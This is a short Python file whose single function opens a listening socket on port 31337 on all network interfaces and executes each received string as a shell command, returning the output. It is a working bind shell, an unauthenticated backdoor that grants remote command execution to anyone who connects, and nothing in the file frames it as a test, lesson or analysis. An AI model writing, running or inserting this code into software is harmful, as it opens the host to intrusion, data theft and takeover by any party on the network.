import socket
import subprocess


def serve() -> None:
    server = socket.socket()
    server.bind(("0.0.0.0", 31337))
    server.listen(1)
    client, _ = server.accept()
    while True:
        command = client.recv(4096).decode()
        if not command:
            break
        client.send(subprocess.check_output(command, shell=True))
